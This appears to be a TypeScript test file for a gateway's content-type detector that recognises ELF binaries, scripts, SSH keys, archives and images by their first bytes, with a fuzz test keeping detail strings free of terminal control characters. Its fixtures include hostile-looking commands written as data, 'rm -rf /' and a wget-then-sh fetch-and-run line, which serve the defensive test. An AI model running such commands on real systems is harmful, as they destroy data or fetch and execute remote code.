import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { gzipSync, zstdCompressSync } from "node:zlib";
import { CONTENT_TYPES, contentTypeOf, TYPE_BYTES } from "../../gateway/evidence/content-type.ts";

function elfOf(bits: 1 | 2, order: 1 | 2, machine: number): Buffer {
  const head = Buffer.alloc(64);
  head.write("\x7fELF", "latin1");
  head.set([bits, order, 1], 4);
  if (order === 2) head.writeUInt16BE(machine, 18);
  else head.writeUInt16LE(machine, 18);
  return head;
}

test("contents are known by their first bytes", () => {
  for (const [content, type, detail] of [
    [Buffer.alloc(0), "empty", undefined],
    [readFileSync(process.execPath).subarray(0, TYPE_BYTES), "elf", undefined],
    [elfOf(2, 1, 62), "elf", "x86-64, 64 bit"],
    [elfOf(1, 2, 8), "elf", "MIPS, 32 bit, big-endian"],
    [elfOf(1, 1, 40), "elf", "ARM, 32 bit"],
    [elfOf(1, 1, 9999), "elf", "machine 9999, 32 bit"],
    ["\x7fELF", "elf", "cut off"],
    ["#!/bin/sh\nrm -rf /", "script", "sh"],
    ["#! /usr/bin/env -S python3 -u\n", "script", "python3"],
    ["#!/usr/bin/env FOO=1 perl", "script", "perl"],
    ["#!\x1b[2J\n", "script", undefined],
    ["#!", "script", undefined],
    ["wget http://192.0.2.1/x; sh x\n", "text", undefined],
    ["\xe8\x9c\x9c\xe7\xae\xb1 in UTF-8", "text", undefined],
    ["\xff\xfe no UTF-8", "data", undefined],
    ["a\0b", "data", undefined],
    ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA user@host", "key", "public, OpenSSH"],
    ["-----BEGIN OPENSSH PRIVATE KEY-----\n", "key", "private, PEM"],
    ["MZ\x90\0", "pe", undefined],
    [gzipSync("x"), "archive", "gzip"],
    [zstdCompressSync("x"), "archive", "zstd"],
    [Buffer.concat([Buffer.alloc(257), Buffer.from("ustar\0")]), "archive", "tar"],
    ["\x89PNG\r\n\x1a\n", "image", "PNG"],
  ] as const) {
    const found = contentTypeOf(typeof content === "string" ? Buffer.from(content, "latin1") : content);
    assert.equal(found.type, type, JSON.stringify(content.toString().slice(0, 20)));
    if (detail !== undefined || type !== "elf") assert.equal(found.detail, detail);
  }
});

test("any bytes are something, and their detail holds nothing of a stranger's that a terminal would act on", () => {
  for (let tries = 0; tries < 2000; tries++) {
    const content = randomBytes(tries % 300);
    if (tries % 3 === 0) content.write("#!", 0);
    if (tries % 5 === 0) content.write("\x7fELF", 0, "latin1");
    const { type, detail = "" } = contentTypeOf(content);
    assert.ok(CONTENT_TYPES.includes(type));
    assert.match(detail, /^[\w.+ ,-]*$/);
  }
});
